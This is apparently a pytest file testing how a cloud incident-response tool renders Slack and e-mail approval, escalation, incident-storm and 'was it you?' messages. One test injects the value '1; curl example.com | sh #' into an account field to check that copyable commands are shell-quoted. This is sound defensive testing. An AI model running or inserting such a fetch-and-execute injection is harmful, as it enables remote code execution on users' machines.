"""What people are asked, in Slack and in e-mail: approvals, escalations, storms, and "was it you?"."""

from dataclasses import replace

import pytest

from chalicelib.decision import Action
from chalicelib.model import Outcome
from chalicelib.notify import buttons, sns, text
from chalicelib.notify.notice import Asked, Button, DecisionLine, Kind
from chalicelib.notify.slack_asked import FACES
from chalicelib.notify.slack_blocks import render
from tests.test_notify_compose import MINING, REMEDIATIONS, compose, exposed_key, mining, only, told
from tests.test_notify_slack import all_blocks, holds_slacks_limits, mrkdwn, section

DIGEST = "0f" * 32
WHEN = "<!date^1762141200^{date_short_pretty} {time_secs}|2025-11-03 03:40:00 UTC>"
APPROVAL = Asked(
    buttons=(
        Button("approve", DIGEST, "Isolate i-0a1b2c3d4e5f60718 in shop-prod. What uses it stops at once."),
        Button("deny", DIGEST),
        Button("details"),
    ),
    expires="2025-11-03T03:40:00Z",
    needed=2,
    approved_by=("slack:U0EXAMPLE1", "arn:aws:iam::111122223333:user/jane"),
)


def waiting(asked=APPROVAL, kind=Kind.INCIDENT, **more):
    return asking(only(Outcome.AWAITING), asked, kind, **more)


def asking(incident, asked, kind=Kind.INCIDENT, **more):
    names = {"account_name": "shop-prod", "environment": "production", "kind": kind, "notice_id": "n-1"}
    return compose(incident, remediations=REMEDIATIONS, **names, at="2025-11-03T02:40:00Z", asked=asked, **more)


def button(label, action, digest="", style="", ask="", question=""):
    made = {
        "type": "button",
        "action_id": f"countermeasure.{action}",
        "text": {"type": "plain_text", "text": label, "emoji": False},
        "value": f"inc-1f2e3d|{digest}",
    }
    styled = {"style": style} if style else {}
    words = {"title": question, "text": ask, "confirm": label, "deny": "Cancel"}
    dialog = {name: {"type": "plain_text", "text": said, "emoji": False} for name, said in words.items()}
    return made | styled | ({"confirm": dialog | styled} if ask else {})


def test_an_approval_shows_the_exact_change_until_when_and_by_how_many_above_its_buttons():
    assert render(waiting(), interactive=True)["blocks"][1:] == [
        section(
            "*HIGH* · *Waiting for approval.* Not everything is done: a person must approve the rest. "
            "(1 awaiting approval)"
        ),
        section(
            f"Asked until {WHEN}. Without an answer it stays as it is.",
            "2 of 2 approvals: <@U0EXAMPLE1>, `arn:aws:iam::111122223333:user/jane`",
        ),
        section(
            "*Isolate an EC2 instance*: awaiting approval",
            "`i-0a1b2c3d4e5f60718` EC2 Instance",
            "planned: `sg-web` → `quarantine`",
            "What uses it stops at once.",
        ),
        {
            "type": "actions",
            "elements": [
                button(
                    "Approve",
                    "approve",
                    DIGEST,
                    "primary",
                    "Isolate i-0a1b2c3d4e5f60718 in shop-prod. What uses it stops at once.",
                    "Make exactly this change?",
                ),
                button("Deny", "deny", DIGEST),
                button("Details", "details"),
            ],
        },
    ]


def test_where_nobody_hears_buttons_the_command_is_shown():
    blocks = render(waiting())["blocks"]
    assert blocks[-1] == section("*Approve*", "`countermeasure approve inc-1f2e3d`")
    assert "actions" not in {block["type"] for block in blocks}


@pytest.mark.parametrize("action", [*Action, buttons.DETAILS])
def test_a_click_on_any_button_comes_back_as_what_was_offered(action):
    notice = asking(mining(), Asked((Button(action, DIGEST),)))
    [shown] = [block for block in all_blocks(render(notice, interactive=True)) if block["type"] == "actions"]
    [element] = shown["elements"]
    assert buttons.action_of(element["action_id"]) == action
    assert buttons.value_of(element["value"]) == ("inc-1f2e3d", DIGEST)


def test_every_button_has_its_own_label():
    assert set(FACES) == {*Action, buttons.DETAILS}
    assert len({face.label for face in FACES.values()}) == len(FACES)


ODD = {
    "of a newer version": Button("quarantine"),
    "that carries what no button of ours carries": Button("approve", "not a digest"),
}


@pytest.mark.parametrize("odd", ODD.values(), ids=ODD.keys())
def test_a_button_that_nobody_could_answer_is_not_shown(odd):
    message = render(asking(mining(), Asked((odd, Button("details")))), interactive=True)
    assert message["blocks"][-1]["elements"] == [button("Details", "details")]
    assert "actions" not in {b["type"] for b in all_blocks(render(asking(mining(), Asked((odd,))), interactive=True))}


def test_a_response_and_an_undo_that_both_wait_have_a_row_each():
    first, second = (Button("approve", DIGEST), Button("deny", DIGEST)), (Button("approve", ""), Button("deny", ""))
    [*_, above, below] = render(asking(mining(), Asked((*first, *second, *first))), interactive=True)["blocks"]
    assert above["elements"] == [button("Approve", "approve", DIGEST, "primary"), button("Deny", "deny", DIGEST)]
    assert below["elements"] == [button("Approve", "approve", "", "primary"), button("Deny", "deny", "")]


def test_an_undo_that_somebody_asks_for_says_who():
    asked = replace(APPROVAL, needed=1, approved_by=(), requester="slack:U0EXAMPLE9")
    assert (
        section(
            "<@U0EXAMPLE9> asks to undo this. Somebody else must approve it.",
            f"Asked until {WHEN}. Without an answer it stays as it is.",
            "0 of 1 approvals",
        )
        in render(asking(exposed_key(), asked))["blocks"]
    )


def test_who_looks_into_it_and_what_was_decided_is_shown():
    decided = (
        DecisionLine("2025-11-03T03:40:00Z", "slack:U0EXAMPLE1", "deny", "a test <!channel>", "left as it is"),
        DecisionLine("yesterday", "slack:U0EXAMPLE1|<!here>", "escalate"),
    )
    asked = Asked((), acknowledged_by="slack:W0EXAMPLE1", snoozed_until="2025-11-03T03:40:00Z", decisions=decided)
    blocks = all_blocks(render(asking(mining(), asked)))
    acknowledged = [mrkdwn("Acknowledged by <@W0EXAMPLE1>"), mrkdwn(f"Snoozed until {WHEN}")]
    assert blocks[2] == {"type": "context", "elements": acknowledged}
    assert (
        section(
            "*Decisions*",
            f"• {WHEN} <@U0EXAMPLE1> *deny*: a test &lt;!channel&gt; → left as it is",
            "• `yesterday` `slack:U0EXAMPLE1|&lt;!here&gt;` *escalate*",
        )
        in blocks
    )


NOBODY = ["slack:U1", "slack:S0EXAMPLE1", "slack:!channel", "U0EXAMPLE1", "slack:U0EXAMPLE1>"]


@pytest.mark.parametrize("by", NOBODY)
def test_only_a_slack_user_is_mentioned(by):
    blocks = str(render(asking(mining(), Asked(acknowledged_by=by))))
    assert "<@" not in blocks


def test_an_escalation_says_so_first():
    notice = waiting(kind=Kind.ESCALATION)
    message = render(notice, interactive=True)
    assert message["text"].startswith("HIGH · [ESCALATED] Waiting for approval: EC2 instance is mining")
    assert message["blocks"][1]["text"]["text"].startswith(
        "*Escalated. Somebody must look at this now.*\n*HIGH* · *Waiting for approval.*"
    )
    assert sns.render(notice)["Subject"].startswith("[HIGH] [ESCALATED] Waiting for approval: ")


def test_a_storm_is_one_message_that_says_how_many_and_how_to_see_them():
    notice = asking(mining(), Asked(), grouped=214)
    headline = "214 incidents: EC2 instance is mining cryptocurrency in shop-prod, eu-west-1"
    see = "countermeasure incidents --rule guardduty.ec2_mining_cryptocurrency --account 444455556666"
    fast = "They come too fast to be told one by one. Each is answered all the same."
    assert notice.headline == headline
    assert render(notice)["blocks"][1] == section(f"*HIGH* · *214 incidents of one rule.* {fast}", f"See all: `{see}`")
    assert text.render(notice).splitlines()[:4] == [headline, f"HIGH: {fast}", "", f"See all: {see}"]
    assert sns.render(notice)["Subject"].startswith("[HIGH] 214 incidents: EC2 instance is mining")


def test_a_command_to_copy_cannot_be_left_by_what_an_event_wrote():
    finding = replace(MINING, account="1; curl example.com | sh #'")
    notice = asking(replace(mining(), finding=finding), Asked(), grouped=2)
    see = "--rule guardduty.ec2_mining_cryptocurrency --account '1; curl example.com | sh #'\"'\"''"
    assert text.render(notice).splitlines()[3] == f"See all: countermeasure incidents {see}"


def test_the_question_asks_plainly_what_when_and_from_where():
    asked = Asked((Button("it was me"), Button("it was not me", "", "The key is disabled and on-call is told.")))
    notice = asking(mining(), asked, Kind.QUESTION, to="U0EXAMPLE1")
    assert render(notice, interactive=True) == {
        "text": "HIGH · Was it you? EC2 instance is mining cryptocurrency · i-0a1b2c3d4e5f60718 and 1 more"
        " in shop-prod, eu-west-1",
        "blocks": [
            {"type": "header", "text": {"type": "plain_text", "text": "Was it you?", "emoji": False}},
            section("Your credentials were used: *EC2 instance is mining cryptocurrency*"),
            {
                "type": "section",
                "fields": [
                    mrkdwn("*When*", "<!date^1762139062^{date_short_pretty} {time_secs}|2025-11-03 03:04:22 UTC>"),
                    mrkdwn("*Account*", "shop-prod `444455556666` eu-west-1"),
                    mrkdwn("*From*", "`198.51.100.7`"),
                    mrkdwn("*With*", "`aws-cli/2.15.0`"),
                    mrkdwn("*As*", "`arn:aws:sts::444455556666:assumed-role/shop-web/i-0a1b2c3d4e5f60718`"),
                    mrkdwn("*MFA*", "`no`"),
                ],
            },
            section("If it was you, nothing more happens here.", "On *No*: The key is disabled and on-call is told."),
            {
                "type": "actions",
                "elements": [
                    button("Yes, it was me", "it_was_me", "", "primary"),
                    button(
                        "No",
                        "it_was_not_me",
                        "",
                        "danger",
                        "The key is disabled and on-call is told.",
                        "It was not you?",
                    ),
                ],
            },
            {
                "type": "context",
                "elements": [mrkdwn("countermeasure asks, incident `inc-1f2e3d`. It never asks for a password.")],
            },
        ],
        "attachments": [],
    }


def test_an_approval_reads_as_text_too():
    assert text.render(waiting()).splitlines()[:7] == [
        "Waiting for approval: EC2 instance is mining cryptocurrency · i-0a1b2c3d4e5f60718 and 1 more "
        "in shop-prod, eu-west-1",
        "HIGH: Not everything is done: a person must approve the rest. (1 awaiting approval)",
        "",
        "Asked until 2025-11-03T03:40:00Z. Without an answer it stays as it is.",
        "2 of 2 approvals: slack:U0EXAMPLE1, arn:aws:iam::111122223333:user/jane",
        "Approve: countermeasure approve inc-1f2e3d",
        "",
    ]


def test_what_did_not_work_is_on_top_with_its_reason():
    blocks = render(told(mining()), interactive=True)["blocks"]
    assert blocks[2] == section(
        "*Snapshot an instance's volumes*: failed",
        "`i-0a1b2c3d4e5f60718` EC2 Instance",
        "planned: `none` → `snapshotted`",
        "Reason: `UnauthorizedOperation: ec2:CreateSnapshots`",
    )


def test_every_button_at_once_with_the_longest_questions_fits():
    ask = "→" * 900
    asked = Asked(tuple(Button(action, DIGEST, ask) for action in FACES), "2025-11-03T03:40:00Z", 2, (ask,) * 40, ask)
    message = render(replace(waiting(asked), incident="i" * 128), interactive=True)
    holds_slacks_limits(message)
    [shown] = [block for block in message["blocks"] if block["type"] == "actions"]
    assert len(shown["elements"]) == len(FACES)


def test_what_is_asked_is_bounded_when_it_is_composed():
    long = "x" * 10_000
    line = DecisionLine(long, long, long, long, long)
    asked = Asked((Button("deny", "", long),) * 99, long, 2, (long,) * 99, long, long, long, (line,) * 99)
    assert len(waiting(asked, to=long).to_json()) < 100_000


def test_what_is_told_keeps_what_is_asked_in_json():
    notice = waiting()
    assert type(notice).from_json(notice.to_json()) == notice
    assert told(mining()).asked == Asked()
